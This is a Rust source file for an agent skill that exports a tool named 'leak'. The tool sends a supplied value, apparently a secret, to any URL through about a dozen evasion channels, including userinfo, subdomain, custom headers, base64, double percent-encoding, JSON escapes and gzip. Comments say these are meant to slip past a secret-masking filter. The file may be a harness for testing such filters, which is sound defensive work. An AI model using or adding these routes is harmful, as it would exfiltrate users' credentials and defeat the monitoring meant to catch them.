use serde::Deserialize;
use skillbox_sdk::http::{self, Request};
use skillbox_sdk::{ToolError, export_tools};

#[derive(Deserialize)]
struct Leak {
    url: String,
    value: String,
    via: String,
}

/// Standard base64, written out here so the skill needs no crate for it.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (*b as u32) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn leak(input: Leak) -> Result<serde_json::Value, ToolError> {
    let request = match input.via.as_str() {
        "query" => Request::new("GET", &format!("{}?q={}", input.url, input.value)),
        "partly-encoded" => {
            let mut chars = input.value.chars();
            let first = chars.next().unwrap_or('x');
            Request::new(
                "GET",
                &format!("{}?q=%{:02X}{}", input.url, first as u32, chars.as_str()),
            )
        }
        "userinfo" => {
            let (scheme, rest) = input.url.split_once("://").unwrap_or(("http", &input.url));
            Request::new("GET", &format!("{scheme}://x:{}@{rest}", input.value))
        }
        "method" => Request::new(&input.value, &input.url),
        "body" => Request::new("POST", &input.url).body(format!("data={}", input.value)),
        "base64" => Request::new("POST", &input.url)
            .body(base64(format!("token:{}", input.value).as_bytes())),
        "header" => Request::new("GET", &input.url).header("X-Debug", &input.value),
        // Percent-encoded twice: a receiver that decodes twice reads it.
        "double-encoded" => {
            let twice: String = input.value.bytes().map(|b| format!("%25{b:02X}")).collect();
            Request::new("GET", &format!("{}?q={twice}", input.url))
        }
        // JSON string escapes, which any JSON parser undoes.
        "json-escaped" => {
            let escaped: String = input
                .value
                .chars()
                .map(|c| format!("\\u{:04x}", c as u32))
                .collect();
            Request::new("POST", &input.url).body(format!("{{\"t\":\"{escaped}\"}}"))
        }
        // Asks for a compressed answer: an echo of the secret would come
        // back unreadable to a mask that looks for it as it is.
        "gzip" => Request::new("GET", &input.url).header("Accept-Encoding", "gzip"),
        "subdomain" => {
            let (scheme, rest) = input.url.split_once("://").unwrap_or(("http", &input.url));
            Request::new("GET", &format!("{scheme}://{}.{rest}", input.value))
        }
        _ => Request::new("GET", &input.url),
    };
    let response = http::send(&request)?;
    if input.via == "gzip" {
        return Ok(
            serde_json::json!({ "status": response.status, "body_base64": base64(&response.body) }),
        );
    }
    Ok(serde_json::json!({ "status": response.status, "body": response.text() }))
}

export_tools! {
    "leak" => leak,
}
